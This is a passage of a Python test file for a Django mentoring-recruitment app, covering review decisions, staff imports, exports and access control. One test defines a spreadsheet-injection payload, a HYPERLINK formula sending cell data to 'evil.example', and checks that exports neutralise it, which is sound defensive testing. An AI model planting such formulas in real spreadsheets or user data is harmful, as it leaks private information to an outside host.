    assert list(emailed.values_list("kind", flat=True)) == [services.OUTCOME_EMAILS[outcome]]


def test_shortlisting_from_the_review_page_needs_no_confirmation(
    world: World, as_coordinator: Client
) -> None:
    application = submitted(open_call(world.cohort))
    response = as_coordinator.post(decide_url(application), {"outcome": "shortlisted"})
    assert response["Location"] == review_url(application)
    assert statuses(application) == [Status.SHORTLISTED]


def test_the_review_page_says_a_decision_that_emails_is_confirmed_first(
    world: World, as_coordinator: Client
) -> None:
    content = page(as_coordinator.get(review_url(submitted(open_call(world.cohort)))))
    assert "so you will be asked to confirm first" in content
    assert "straight away" not in content


def test_accepting_from_the_review_page_adds_them_and_queues_the_outcome_email(
    world: World, as_coordinator: Client
) -> None:
    application = submitted(open_call(world.cohort))
    clear_sent_mail()
    response = as_coordinator.post(
        decide_url(application), {"outcome": "accepted", "confirm": "yes"}, follow=True
    )
    assert "1 application is now “Accepted”." in page(response)
    assert statuses(application) == [Status.ACCEPTED]
    membership = Membership.objects.get(cohort=world.cohort, user=application.applicant)
    assert (membership.role, membership.site) == (Role.MENTOR, application.site)
    assert (
        OutboxMessage.objects.filter(
            kind="application_accepted", to=application.applicant.email
        ).count()
        == 1
    )
    assert [m.subject for m in sent_mail()] == [f"You have a place in {world.cohort}"]


def test_review_page_offers_only_decisions_open_from_the_status(
    world: World, as_coordinator: Client
) -> None:
    waitlisted = submitted(open_call(world.cohort), status=Status.WAITLISTED)
    content = page(as_coordinator.get(review_url(waitlisted)))
    assert 'value="accepted"' in content and 'value="declined"' in content
    assert 'value="shortlisted"' not in content and 'value="waitlisted"' not in content


@pytest.mark.parametrize("outcome", ["declined", "withdrawn", "nonsense", ""])
def test_decisions_not_open_are_refused_with_a_message(
    world: World, as_coordinator: Client, outcome: str
) -> None:
    application = submitted(open_call(world.cohort), status=Status.ACCEPTED)
    clear_sent_mail()
    for data in [{"outcome": outcome}, {"outcome": outcome, "confirm": "yes"}]:
        response = as_coordinator.post(decide_url(application), data, follow=True)
        assert 'class="message message--error"' in page(response)
    assert statuses(application) == [Status.ACCEPTED]
    assert sent_mail() == []


@pytest.mark.parametrize("role", OUTSIDERS)
def test_others_cannot_review_score_note_or_decide(world: World, client: Client, role: str) -> None:
    criteria = make_rubric(world.scheme)
    application = submitted(open_call(world.cohort), make_user())
    signed_in(client, getattr(world, role))
    args = [application.pk]
    responses = [
        client.get(review_url(application)),
        client.post(reverse("recruitment:score", args=args), score_values(criteria, 1, 1)),
        client.post(reverse("recruitment:note", args=args), {"text": "Sneaky"}),
        client.post(reverse("recruitment:decide", args=args), {"outcome": "accepted"}),
    ]
    assert [r.status_code for r in responses] == [404, 404, 404, 404]
    assert statuses(application) == [Status.SUBMITTED]
    assert not Review.objects.exists() and not ReviewNote.objects.exists()


def test_another_cohorts_coordinator_cannot_review(world: World, client: Client) -> None:
    application = submitted(open_call(world.cohort))
    stranger = make_user()
    Membership.objects.create(
        cohort=make_cohort(world.scheme, label="2027/28"), user=stranger, role=Role.COORDINATOR
    )
    assert signed_in(client, stranger).get(review_url(application)).status_code == 404


# --- Importing a staff list ---------------------------------------------------------------


def import_url(world: World) -> str:
    return reverse("recruitment:import_staff", args=[world.cohort.pk])


def upload(content: bytes, name: str = "staff.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="text/csv")


def test_a_good_staff_list_invites_everyone_once(world: World, as_coordinator: Client) -> None:
    clear_sent_mail()
    data = b"email,name\na.prof@example.ac.uk,Alex Prof\nS.Cons@Example.nhs.uk,Sam Cons\n"
    response = as_coordinator.post(import_url(world), {"file": upload(data)}, follow=True)
    assert "2 staff mentees invited." in page(response)
    assert sorted(Invitation.objects.values_list("email", "role")) == [
        ("a.prof@example.ac.uk", "mentee"),
        ("s.cons@example.nhs.uk", "mentee"),
    ]
    assert sorted(m.to[0] for m in sent_mail()) == ["a.prof@example.ac.uk", "s.cons@example.nhs.uk"]


def test_a_good_xlsx_staff_list_is_read_too(world: World, as_coordinator: Client) -> None:
    workbook = Workbook()
    workbook.worksheets[0].append(["email"])
    workbook.worksheets[0].append(["x.prof@example.ac.uk"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    as_coordinator.post(import_url(world), {"file": upload(buffer.getvalue(), "staff.xlsx")})
    assert list(Invitation.objects.values_list("email", flat=True)) == ["x.prof@example.ac.uk"]


def test_one_bad_row_is_reported_by_line_and_nobody_is_invited(
    world: World, as_coordinator: Client
) -> None:
    data = b"email,name\na.prof@example.ac.uk,Alex\nnot-an-email,Bad Row\nb@example.ac.uk,B\n"
    response = as_coordinator.post(import_url(world), {"file": upload(data)})
    content = page(response)
    assert response.status_code == 200
    assert "line 3" in content
    assert "“not-an-email” is not a valid email address." in content
    assert "Nobody was invited" in content
    assert not Invitation.objects.exists()


def test_people_already_in_the_cohort_are_reported(world: World, as_coordinator: Client) -> None:
    data = f"email\n{world.mentee.email.upper()}\n".encode()
    content = page(as_coordinator.post(import_url(world), {"file": upload(data)}))
    assert "line 2" in content and "already in this cohort" in content
    assert not Invitation.objects.exists()


@pytest.mark.parametrize(
    ("content", "name", "error"),
    [
        (b"%PDF-1.7\n\x00\x01\x02binary", "staff.csv", "not a CSV or Excel"),
        (b"", "staff.csv", "The submitted file is empty."),
        (b"email\n" + b"a@example.ac.uk\n" * 200_000, "staff.csv", "larger than 2 MB"),
    ],
)
def test_unusable_files_are_refused(
    world: World, as_coordinator: Client, content: bytes, name: str, error: str
) -> None:
    response = as_coordinator.post(import_url(world), {"file": upload(content, name)})
    assert error in page(response)
    assert not Invitation.objects.exists()


def test_posting_without_a_file_asks_for_one(world: World, as_coordinator: Client) -> None:
    response = as_coordinator.post(import_url(world), {})
    assert "This field is required." in page(response)


@pytest.mark.parametrize("role", OUTSIDERS)
def test_others_cannot_import_staff(world: World, client: Client, role: str) -> None:
    signed_in(client, getattr(world, role))
    assert client.get(import_url(world)).status_code == 404
    response = client.post(import_url(world), {"file": upload(b"email\nx@example.ac.uk\n")})
    assert response.status_code == 404
    assert not Invitation.objects.exists()


# --- Downloads ----------------------------------------------------------------------------


def export_url(call: Call, fmt: str) -> str:
    return reverse("recruitment:export", args=[call.pk, fmt])


def csv_rows(response: Any) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def test_csv_export_has_one_row_per_submitted_application(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    application = submitted(call, make_user("Sam Submitted", email="sam@example.ac.uk"))
    submitted(call, make_user("Dee Draft"), status=Status.DRAFT, submitted_at=None)
    plant_equality_answers(application)
    response = as_coordinator.get(export_url(call, "csv"))
    assert response.streaming  # written a row at a time, however many applications there are
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="pride-reverse-mentoring-2026-27-student-mentor-applications.csv"'
    )
    headings, *rows = csv_rows(response)
    assert headings[:4] == ["ID", "Name", "Email", "Status"]
    assert len(rows) == 1
    row = dict(zip(headings, rows[0], strict=True))
    assert (row["Name"], row["Email"], row["Programme"], row["Year"]) == (
        "Sam Submitted",
        "sam@example.ac.uk",
        "MBBS",
        "2",
    )
    assert row["Available"] == "Tuesday afternoon; Thursday evening"
    assert EQUALITY_SENTINEL not in repr([headings, *rows])  # the whole streamed file
    assert "Access" not in " ".join(headings)
    assert AuditEntry.objects.filter(
        action="recruitment.applications.exported", object_id=str(call.pk)
    ).exists()


def test_blind_review_export_shows_numbers_not_names(world: World, as_coordinator: Client) -> None:
    call = open_call(world.cohort, blind_review=True)
    application = submitted(call, make_user("Hidden Name", email="hidden@example.ac.uk"))
    for fmt in ["csv", "xlsx"]:
        response = as_coordinator.get(export_url(call, fmt))
        if fmt == "csv":
            text = response.getvalue().decode("utf-8-sig")
        else:
            sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
            text = " ".join(str(c.value) for row in sheet.iter_rows() for c in row)
        assert f"Applicant {application.pk}" in text
        assert "Hidden Name" not in text and "hidden@example.ac.uk" not in text


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'


def test_formulas_in_answers_are_exported_inert_in_csv_and_xlsx(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    submitted(call, make_user("@SUM(1+1)"), statement=FORMULA, other_topics="+44 20 7946 0000")
    headings, row = csv_rows(as_coordinator.get(export_url(call, "csv")))
    csv_row = dict(zip(headings, row, strict=True))
    assert csv_row["Statement"] == "'" + FORMULA
    assert csv_row["Name"] == "'@SUM(1+1)"
    assert csv_row["Other topics"] == "'+44 20 7946 0000"

    response = as_coordinator.get(export_url(call, "xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].endswith('applications.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    values = {h.value: c for h, c in zip(sheet[1], sheet[2], strict=True)}
    assert values["Statement"].value == "'" + FORMULA
    assert values["Statement"].data_type == "s"
    assert values["Name"].value == "'@SUM(1+1)"


def test_export_in_another_format_is_not_found(world: World, as_coordinator: Client) -> None:
    call = open_call(world.cohort)
    for fmt in ["pdf", "CSV", "xls", "csv.exe"]:
        assert as_coordinator.get(f"/calls/{call.pk}/applications/export.{fmt}").status_code == 404
    assert not AuditEntry.objects.filter(action="recruitment.applications.exported").exists()


@pytest.mark.parametrize("role", OUTSIDERS)
def test_others_cannot_download_applications(world: World, client: Client, role: str) -> None:
    call = open_call(world.cohort)
    submitted(call)
    signed_in(client, getattr(world, role))
    assert client.get(export_url(call, "csv")).status_code == 404
    assert client.get(export_url(call, "xlsx")).status_code == 404


def test_review_page_says_when_access_needs_cannot_be_read(
    world: World, as_coordinator: Client
) -> None:
    application = submitted(open_call(world.cohort), access_needs="Step-free access, please.")
    token = application.access_needs_ciphertext
    assert "Step-free" not in token
    tampered = token[:-6] + ("A" if token[-6] != "A" else "B") + token[-5:]
    Application.objects.filter(pk=application.pk).update(access_needs_ciphertext=tampered)
    response = as_coordinator.get(review_url(application))
    assert response.status_code == 200
    content = page(response)
    assert "This can no longer be read." in content and "Step-free" not in content
